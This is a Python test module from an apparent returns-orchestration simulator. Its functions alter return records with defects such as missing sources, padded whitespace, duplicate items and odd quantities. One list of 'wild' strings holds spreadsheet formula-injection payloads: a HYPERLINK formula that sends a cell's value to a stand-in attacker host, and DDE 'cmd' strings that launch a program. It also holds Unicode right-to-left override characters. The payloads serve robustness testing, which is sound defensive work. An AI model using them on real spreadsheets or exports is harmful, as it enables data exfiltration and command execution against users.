"""What oddities do to the true contents of a return, before any record is made of it.

Each takes the contents, which it changes in place, and the return's salt, which chooses among
variants. The truth for tests has the values that they write, white space folded.
"""

from __future__ import annotations

from copy import copy
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from returns_orchestration.simulator.contents import Contents

_WILD = (
    "Size Issue 👟 way too big",
    "Too small\nand the colour\r\nis off",
    '=HYPERLINK("https://attacker.example.invalid/?"&A1,"Size Issue")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "साइज़ छोटा है",
    "Line one\tline two, \"quoted\"; 'single' \\ backslash",
    "zero\u200bwidth and \u202eright to left",
)


def no_source(contents: Contents, _salt: int) -> None:
    """The place where the return was asked for is unknown."""
    contents.source = None


def nothing_chosen(contents: Contents, _salt: int) -> None:
    """Refund mode and source are unknown, although their fields will hold text."""
    contents.refund_mode = contents.source = None


def padded(contents: Contents, _salt: int) -> None:
    """Blanks around modes and reasons, and doubled ones inside."""
    if contents.refund_mode:
        contents.refund_mode = f"  {contents.refund_mode.replace(' ', '  ')} "
    for item in contents.items:
        item.reason = f" {item.reason.replace(' ', '   ')}\t" if item.reason else item.reason
        item.refund_mode = f"{item.refund_mode}  " if item.refund_mode else item.refund_mode


def wild_text(contents: Contents, salt: int) -> None:
    """Text that breaks simple parsers, spreadsheets and terminals."""
    wild = _WILD[salt % len(_WILD)]
    contents.items[0].reason = wild
    contents.items[0].comment = wild
    contents.street = f"{contents.street}\n{wild}"


def hide_items(contents: Contents, _salt: int) -> None:
    """The records do not show the items, so a reader cannot know them."""
    contents.items_hidden = True


def one_item(contents: Contents, _salt: int) -> None:
    """A single item."""
    del contents.items[1:]


def bare_item(contents: Contents, _salt: int) -> None:
    """The first item has neither reason nor refund mode."""
    contents.items[0].reason = contents.items[0].refund_mode = None


def same_sku(contents: Contents, _salt: int) -> None:
    """The first item once more, as a separate item with another reason."""
    again = copy(contents.items[0])
    again.number += 7  # the last of the eight numbers a return has for its items
    again.line_item += 7
    again.reason = "Ordered twice"
    contents.items.append(again)


def quantity_two(contents: Contents, _salt: int) -> None:
    """Two pieces of the first item."""
    contents.items[0].quantity = 2


def quantity_unknown(contents: Contents, _salt: int) -> None:
    """No quantity for the first item."""
    contents.items[0].quantity = None


def quantity_zero(contents: Contents, _salt: int) -> None:
    """Zero pieces of the first item."""
    contents.items[0].quantity = 0
